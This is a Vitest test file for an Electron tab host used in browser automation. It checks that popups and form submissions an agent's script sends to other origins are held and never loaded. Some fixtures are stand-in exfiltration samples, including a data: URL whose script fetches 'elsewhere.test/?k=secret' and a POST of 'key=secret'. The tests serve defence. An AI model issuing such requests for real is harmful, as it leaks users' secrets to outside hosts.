// The TabHost over the app's browser windows, with Electron faked: tabs are windows in the fallback partition with the
// secure webPreferences and no preload, attached once, closed for good; popups open as our own tabs, shown to the engine
// before they load, unless the opener's trail says its agent's script opened them elsewhere; downloads follow the policy;
// the show-windows setting decides what the person sees.
import { EventEmitter } from 'node:events';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { PolicyGate } from '../../shared/engine/policy-gate.js';
import { POPUP_HELD, POPUP_OPENING, type PopupOpening } from '../../shared/engine/popup-events.js';
import type { Popup } from '../../shared/engine/tab-host.js';
import { DEFAULT_POLICY, type Policy } from '../../shared/policy/policy.js';
import { type FakeBrowserWindow, fakeElectron } from './support/fake-electron.js';

vi.mock('electron', () => fakeElectron());

const { WindowTabHost } = await import('../../electron/main/electron-fallback/window-tab-host.js');
const { FALLBACK_PARTITION, openFallbackWindow } =
  await import('../../electron/main/electron-fallback/fallback-window.js');
const { SECURE_WEB_PREFERENCES } = await import('../../electron/main/secure-prefs.js');

let policy: Policy;
let show: boolean;
let partition: EventEmitter;
let windows: FakeBrowserWindow[];

function makeHost() {
  return new WindowTabHost({
    openWindow: () => {
      const window = openFallbackWindow() as unknown as FakeBrowserWindow;
      windows.push(window);
      return window as never;
    },
    session: partition as never,
    gate: new PolicyGate(() => policy),
    showWindows: () => show,
  });
}

const tick = () => new Promise((resolve) => setTimeout(resolve, 0));

/**
 * A driven tab at `url` whose trail answers the host as the engine's does (egress-trail.ts): `scripted`, that the
 * agent's script opened the window. Records what the host asked and what it said was held.
 */
async function drivenOpener(host: ReturnType<typeof makeHost>, url: string, scripted: boolean) {
  const tab = await host.create(url, { focus: false });
  const asked: Record<string, unknown>[] = [];
  const held: Record<string, unknown>[] = [];
  (await host.cdp(tab.id)).on((event) => {
    if (event.method === POPUP_OPENING) {
      asked.push(event.params);
      if (scripted) (event.params as unknown as PopupOpening).scripted();
    }
    if (event.method === POPUP_HELD) held.push(event.params);
  });
  return { tab, asked, held };
}

/** What a `<form target=_blank method=post>` of the opener's page asks Electron for. */
const FORM_POPUP = {
  url: 'https://elsewhere.test/collect',
  disposition: 'foreground-tab',
  referrer: { url: 'https://site.test/page', policy: 'strict-origin-when-cross-origin' },
  postBody: {
    data: [{ type: 'rawData', bytes: Buffer.from('key=secret') }],
    contentType: 'application/x-www-form-urlencoded',
  },
};

/** Every URL any window was sent to. */
const loaded = () => windows.flatMap((window) => window.webContents.loads.map((load) => load.url));

beforeEach(() => {
  policy = { ...DEFAULT_POLICY };
  show = true;
  partition = new EventEmitter();
  windows = [];
});

describe('WindowTabHost', () => {
  it('opens a tab as a window in the fallback partition with the secure webPreferences and no preload', async () => {
    const host = makeHost();
    const tab = await host.create('about:blank', { focus: false });
    const prefs = windows[0]!.options['webPreferences'] as Record<string, unknown>;
    expect(prefs).toMatchObject({ ...SECURE_WEB_PREFERENCES, partition: FALLBACK_PARTITION });
    expect(prefs['preload']).toBeUndefined();
    expect(FALLBACK_PARTITION).toBe('persist:chrome-mcp-fallback');
    expect(windows[0]!.options['show']).toBe(false);
    expect(tab).toMatchObject({ id: String(windows[0]!.webContents.id), url: 'about:blank' });
    expect(await host.list()).toHaveLength(1);
  });

  it('commits a blank page before loading the URL it was asked for', async () => {
    const host = makeHost();
    await host.create('https://example.com/', { focus: true });
    expect(windows[0]!.webContents.loads.map((load) => load.url)).toEqual(['about:blank', 'https://example.com/']);
    expect((await host.list())[0]).toMatchObject({ active: true });
  });

  it('attaches the debugger once per tab and again after it detached', async () => {
    const host = makeHost();
    const { id } = await host.create('about:blank', { focus: false });
    const first = await host.cdp(id);
    expect(await host.cdp(id)).toBe(first);
    windows[0]!.webContents.debugger.emit('detach', {}, 'canceled_by_user');
    const second = await host.cdp(id);
    expect(second).not.toBe(first);
  });

  it('explains an attach another debugger refused', async () => {
    const host = makeHost();
    const { id } = await host.create('about:blank', { focus: false });
    windows[0]!.webContents.debugger.refuseAttach = 'Another debugger is already attached';
    await expect(host.cdp(id)).rejects.toMatchObject({ code: 'DETACHED' });
  });

  it('closes a tab for good (destroy: no beforeunload) and forgets a window the person closed', async () => {
    const host = makeHost();
    const a = await host.create('about:blank', { focus: false });
    const b = await host.create('about:blank', { focus: false });
    await host.close(a.id);
    expect(windows[0]!.destroyed).toBe(true);
    windows[1]!.destroy();
    expect(await host.list()).toEqual([]);
    await expect(host.cdp(b.id)).rejects.toMatchObject({ code: 'TAB_NOT_FOUND' });
    await expect(host.close(b.id)).rejects.toMatchObject({ code: 'TAB_NOT_FOUND' });
  });

  it('keeps windows hidden when the person chose so, and shows them when not', async () => {
    show = false;
    const host = makeHost();
    const hidden = await host.create('about:blank', { focus: true });
    expect(windows[0]!.visible).toBe(false);
    show = true;
    await host.activate(hidden.id);
    expect(windows[0]!.visible).toBe(true);
    await host.create('about:blank', { focus: false });
    expect(windows[1]!).toMatchObject({ visible: true, focused: false });
  });

  it('refuses window.open and opens the popup as a tab, guarded by the engine before it loads', async () => {
    const host = makeHost();
    const opener = await host.create('about:blank', { focus: false });
    await host.cdp(opener.id);
    const order: string[] = [];
    host.onPopup(async (popup: Popup) => {
      order.push(`guard ${popup.openerId} ${popup.url}`);
      expect(windows[1]!.webContents.loads.map((load) => load.url)).toEqual(['about:blank']);
    });
    const answer = windows[0]!.webContents.openHandler!({
      url: 'https://example.com/next',
      disposition: 'foreground-tab',
      referrer: { url: 'https://example.com/', policy: 'strict-origin-when-cross-origin' },
      postBody: {
        data: [{ type: 'rawData', bytes: Buffer.from('a=1') }],
        contentType: 'application/x-www-form-urlencoded',
      },
    });
    expect(answer).toEqual({ action: 'deny' });
    await tick();
    await tick();
    expect(order).toEqual([`guard ${opener.id} https://example.com/next`]);
    const load = windows[1]!.webContents.loads[1]!;
    expect(load.url).toBe('https://example.com/next');
    expect(load.options).toMatchObject({
      httpReferrer: { url: 'https://example.com/' },
      extraHeaders: 'content-type: application/x-www-form-urlencoded',
    });
    expect(await host.list()).toHaveLength(2);
  });

  it('does not tell the engine about a popup of a tab it does not drive', async () => {
    const host = makeHost();
    await host.create('about:blank', { focus: false });
    const heard = vi.fn(async () => undefined);
    host.onPopup(heard);
    windows[0]!.webContents.openHandler!({
      url: 'https://example.com/',
      disposition: 'new-window',
      referrer: { url: '', policy: 'default' },
    });
    await tick();
    await tick();
    expect(heard).not.toHaveBeenCalled();
    expect(windows[1]!.webContents.loads.map((load) => load.url)).toEqual(['about:blank', 'https://example.com/']);
  });

  it('holds a form the agent’s script submits into a new window towards another origin: nothing opens or loads', async () => {
    const host = makeHost();
    const { asked, held } = await drivenOpener(host, 'https://site.test/page', true);
    const heard = vi.fn(async () => undefined);
    host.onPopup(heard);
    expect(windows[0]!.webContents.openHandler!(FORM_POPUP)).toEqual({ action: 'deny' });
    await tick();
    await tick();
    // Electron names no frame and no gesture: the trail is asked with both unknown.
    expect(asked).toEqual([{ scripted: expect.any(Function) }]);
    expect(held).toEqual([{ method: 'POST', url: 'https://elsewhere.test/collect', kind: 'navigation' }]);
    expect(loaded()).not.toContain('https://elsewhere.test/collect');
    expect(windows.slice(1).every((window) => window.destroyed)).toBe(true);
    expect(heard).not.toHaveBeenCalled();
    expect(await host.list()).toHaveLength(1);
  });

  it('holds a window a timer of the script opens, with GET, and one to a data: URL the app itself would load', async () => {
    const host = makeHost();
    const { held } = await drivenOpener(host, 'https://site.test/page', true);
    const referrer = { url: 'https://site.test/page', policy: 'strict-origin-when-cross-origin' };
    const data = 'data:text/html,<script>fetch("https://elsewhere.test/?k=secret")</script>';
    for (const url of ['https://elsewhere.test/late?k=secret', data])
      windows[0]!.webContents.openHandler!({ url, disposition: 'new-window', referrer });
    await tick();
    await tick();
    expect(held).toEqual([
      { method: 'GET', url: 'https://elsewhere.test/late?k=secret', kind: 'navigation' },
      { method: 'GET', url: data, kind: 'navigation' },
    ]);
    expect(loaded().filter((url) => url !== 'about:blank')).toEqual(['https://site.test/page']);
    expect(await host.list()).toHaveLength(1);
  });

  it('loads a window the trail says the script did not open, with its referrer and form body as before', async () => {
    const host = makeHost();
    const { asked, held } = await drivenOpener(host, 'https://site.test/page', false);
    windows[0]!.webContents.openHandler!(FORM_POPUP);
    await tick();
    await tick();
    expect(asked).toHaveLength(1);
    expect(held).toEqual([]);
    const load = windows[1]!.webContents.loads[1]!;
    expect(load.url).toBe('https://elsewhere.test/collect');
    expect(load.options).toMatchObject({
      httpReferrer: { url: 'https://site.test/page' },
      postData: FORM_POPUP.postBody.data,
      extraHeaders: 'content-type: application/x-www-form-urlencoded',
    });
  });

  it('loads a window the script opens to the opener’s own origins, without asking its trail', async () => {
    const host = makeHost();
    const { asked, held } = await drivenOpener(host, 'https://site.test/page', true);
    // The asking document is a frame of another origin the page holds: its own origin is the opener's too.
    const referrer = { url: 'https://frame.test/inner', policy: 'no-referrer-when-downgrade' };
    for (const url of ['https://site.test/next', 'https://frame.test/next'])
      windows[0]!.webContents.openHandler!({ url, disposition: 'foreground-tab', referrer });
    await tick();
    await tick();
    expect(asked).toEqual([]);
    expect(held).toEqual([]);
    expect(loaded()).toEqual(expect.arrayContaining(['https://site.test/next', 'https://frame.test/next']));
  });

  it('cancels downloads while the policy has them off', async () => {
    makeHost();
    const event = { preventDefault: vi.fn() };
    partition.emit('will-download', event);
    expect(event.preventDefault).toHaveBeenCalledTimes(1);
    policy = { ...policy, downloads: true };
    partition.emit('will-download', event);
    expect(event.preventDefault).toHaveBeenCalledTimes(1);
  });

  it('closes every window and refuses new tabs once the browser is closed', async () => {
    const host = makeHost();
    const { id } = await host.create('about:blank', { focus: false });
    const cdp = await host.cdp(id);
    const pending = cdp.send('Runtime.evaluate');
    host.closeAll();
    await expect(pending).rejects.toMatchObject({ code: 'BROWSER_CLOSED' });
    expect(windows[0]!.destroyed).toBe(true);
    await expect(host.create('about:blank', { focus: false })).rejects.toMatchObject({ code: 'BROWSER_CLOSED' });
    expect(partition.listenerCount('will-download')).toBe(0);
  });
});
